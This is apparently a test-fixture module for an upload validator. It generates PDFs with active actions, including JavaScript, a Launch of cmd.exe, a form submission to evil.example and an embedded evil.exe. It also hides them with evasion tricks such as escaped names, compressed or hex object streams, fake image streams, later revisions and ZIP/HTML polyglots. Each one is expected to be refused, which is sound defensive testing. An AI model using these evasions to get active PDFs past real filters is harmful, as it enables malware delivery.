import { deflateSync } from 'node:zlib'
import { HTML, MARK, refused, zip, type HostileUpload } from './hostile-parts.ts'
import type { Random } from './random.ts'
import { pdfStream, pdfWith, plainPdf } from './uploads.ts'

const ACTIONS = [
  `/OpenAction << /S /JavaScript /JS (app.alert\\("${MARK}"\\)) >>`,
  '/OpenAction [3 0 R /Fit]',
  '/AA << /WC 9 0 R >>',
  '/AA 9 0 R',
  '/Names << /JavaScript << /Names [(a) 9 0 R] >> >>',
  '/Names << /EmbeddedFiles << /Names [(evil.exe) 9 0 R] >> >>',
  '/X << /S /Launch /F (cmd.exe) >>',
  '/X << /S /SubmitForm /F (https://evil.example) >>',
  '/X << /S /ImportData /F (x.fdf) >>',
  '/X << /S /GoToR /F (x.pdf) /D [0 /Fit] >>',
  '/X << /S /GoToE /T << >> >>',
  '/X << /Type /EmbeddedFile >>',
  '/X << /Subtype /RichMedia >>',
  '/X << /Subtype /3D >>',
  '/X << /S /Rendition /JS (x) >>',
  '/X << /Subtype /Movie >>',
  '/X << /S /Sound >>',
  '/AcroForm << /XFA 9 0 R >>',
  '/X << /JS 9 0 R >>',
  '/X << /JS <61> >>',
]

/** `/JavaScript` as `/J#61vaScript`: any letters of any names. */
const escapedNames = (random: Random, text: string): string =>
  text.replaceAll(/\/([A-Za-z0-9]+)/g, (_whole, name: string) => {
    const at = random.int(0, name.length - 1)
    const escape = (letter: string) =>
      `#${letter.charCodeAt(0).toString(16)[random.chance(0.5) ? 'toUpperCase' : 'toLowerCase']()}`
    return `/${Array.from(name, (letter, index) => (index === at || random.chance(0.3) ? escape(letter) : letter)).join('')}`
  })

const DISGUISES: Record<string, (random: Random, action: string) => Buffer> = {
  plainly: (_random, action) => pdfWith({ catalog: action }),
  'with names in numbers': (random, action) => pdfWith({ catalog: escapedNames(random, action) }),
  'in a packed object': (_random, action) =>
    pdfWith({
      objects: [
        pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`9 0 << ${action} >>`))),
      ],
    }),
  'in a packed object that says it is a picture': (random, action) =>
    pdfWith({
      objects: [
        pdfStream(
          '/N 1 /First 4 /Filter [/FlateDecode] /X (1 0 obj) /Subtype /Image',
          deflateSync(Buffer.from(`9 0 << ${escapedNames(random, action)} >>`)),
        ),
      ],
    }),
  'in an object in hexadecimal': (_random, action) =>
    pdfWith({
      objects: [
        pdfStream(
          '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode',
          Buffer.from(`${Buffer.from(`9 0 << ${action} >>`).toString('hex')}>`),
        ),
      ],
    }),
  'in a twice packed object': (_random, action) =>
    pdfWith({
      objects: [
        pdfStream(
          '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
          deflateSync(deflateSync(Buffer.from(`9 0 << ${action} >>`))),
        ),
      ],
    }),
  'inside the bytes of a picture': (_random, action) =>
    pdfWith({
      objects: [
        pdfStream(
          '/Subtype /Image /Filter /DCTDecode',
          Buffer.from(`\u00FF\u00D8 9 0 obj << ${action} >> endobj`, 'latin1'),
        ),
      ],
    }),
  'in a later revision': (_random, action) =>
    Buffer.concat([
      plainPdf(),
      Buffer.from(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${action} >>\nendobj\nstartxref\n9\n%%EOF\n`),
    ]),
}

/** PDFs that act, and PDFs that hide whether they do. */
export const hostilePdfs = (random: Random): HostileUpload[] => [
  ...Object.entries(DISGUISES).flatMap(([how, disguise]) =>
    ACTIONS.map((action) =>
      refused(
        `a PDF with ${action.slice(0, 40)} ${how}`,
        disguise(random, action),
        random.pick(['national-id', 'license']),
      ),
    ),
  ),
  refused('a locked PDF', pdfWith({ catalog: '/Encrypt 9 0 R' }), 'license'),
  refused(
    'a PDF with a filter elsewhere',
    pdfWith({ objects: [pdfStream('/Filter 9 0 R', Buffer.from('789c'))] }),
    'license',
  ),
  refused(
    'a PDF whose packed bytes are not',
    pdfWith({ objects: [pdfStream('/Filter /FlateDecode', HTML)] }),
    'license',
  ),
  refused('a PDF cut in half', plainPdf().subarray(0, 200), 'license'),
  refused('a PDF without an end', Buffer.from('%PDF-1.7\n'), 'license'),
  refused('a PDF with a ZIP behind it', Buffer.concat([plainPdf(), zip()]), 'license'),
  refused('a PDF with a ZIP inside', pdfWith({ objects: [pdfStream('', zip())] }), 'license'),
  refused('a PDF with HTML behind it', Buffer.concat([plainPdf(), HTML]), 'license'),
  refused('a PDF with HTML before it', Buffer.concat([HTML, plainPdf()]), 'license'),
  refused('a PDF with HTML inside', pdfWith({ objects: [pdfStream('', HTML)] }), 'license'),
  refused('a PDF that starts late', Buffer.concat([Buffer.from('\n'), plainPdf()]), 'license'),
]
